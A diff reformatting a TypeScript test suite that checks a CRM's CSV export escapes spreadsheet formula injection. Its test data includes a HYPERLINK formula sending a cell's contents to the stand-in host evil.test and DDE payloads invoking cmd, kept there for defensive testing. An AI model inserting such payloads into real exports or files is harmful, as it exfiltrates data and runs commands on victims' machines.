@@ -18,7 +18,14 @@ function sink(): Writable & { text(): string } {
 }
 
 /** Every start OWASP lists as one a spreadsheet reads as a formula, each with a payload behind it. */
-const FORMULAS = ['=HYPERLINK("http://evil.test/?x="&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];
+const FORMULAS = [
+  '=HYPERLINK("http://evil.test/?x="&A1,"Click")',
+  "+1+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '\t=1+1',
+  '\r=1+1',
+];
 
 describe('a CSV cell as the export writes it', () => {
   it.each(FORMULAS)('quotes text that starts like a formula: %j', (text) => {
@@ -63,7 +70,11 @@ describe('export of a lead posted to the public intake', () => {
     });
     expect(post.status).toBe(201);
     // Names are trimmed on write (no tab first); numbers stay numbers.
-    const r = await t.gql(`mutation { createAccount(input: { name: "=1+1", employees: 0, annualRevenue: { amount: "0", currency: "USD" } }) { id } }`, {}, admin.accessToken);
+    const r = await t.gql(
+      `mutation { createAccount(input: { name: "=1+1", employees: 0, annualRevenue: { amount: "0", currency: "USD" } }) { id } }`,
+      {},
+      admin.accessToken,
+    );
     expect(r.errors).toBeUndefined();
   });
   afterAll(() => t.close());
@@ -77,7 +88,14 @@ describe('export of a lead posted to the public intake', () => {
 
   it('quotes every formula cell by default', async () => {
     const [lead] = await exportCsv('leads');
-    expect(lead).toMatchObject({ lastName: `'${FORMULAS[0]}`, company: `'${FORMULAS[1]}`, phone: `'${FORMULAS[2]}`, firstName: `'${FORMULAS[3]}`, email: 'mallory@evil.test', status: 'NEW' });
+    expect(lead).toMatchObject({
+      lastName: `'${FORMULAS[0]}`,
+      company: `'${FORMULAS[1]}`,
+      phone: `'${FORMULAS[2]}`,
+      firstName: `'${FORMULAS[3]}`,
+      email: 'mallory@evil.test',
+      status: 'NEW',
+    });
     const [account] = await exportCsv('accounts');
     expect(account).toMatchObject({ name: "'=1+1", employees: '0', 'annualRevenue.amount': expect.stringMatching(/^0(\.0+)?$/) });
   });
@@ -90,7 +108,9 @@ describe('export of a lead posted to the public intake', () => {
   it('the command line quotes by default and takes --no-escape-formulas', async () => {
     const run = (args: string[]) =>
       new Promise<string>((resolve, reject) => {
-        const child = spawn(process.execPath, [join(__dirname, '../scripts/export.js'), '--entity', 'leads', ...args], { env: { PATH: process.env.PATH ?? '', TRELLIS_URL: client.url, TRELLIS_API_KEY: client.token } });
+        const child = spawn(process.execPath, [join(__dirname, '../scripts/export.js'), '--entity', 'leads', ...args], {
+          env: { PATH: process.env.PATH ?? '', TRELLIS_URL: client.url, TRELLIS_API_KEY: client.token },
+        });
         let out = '';
         let err = '';
         child.stdout.on('data', (d) => (out += d));
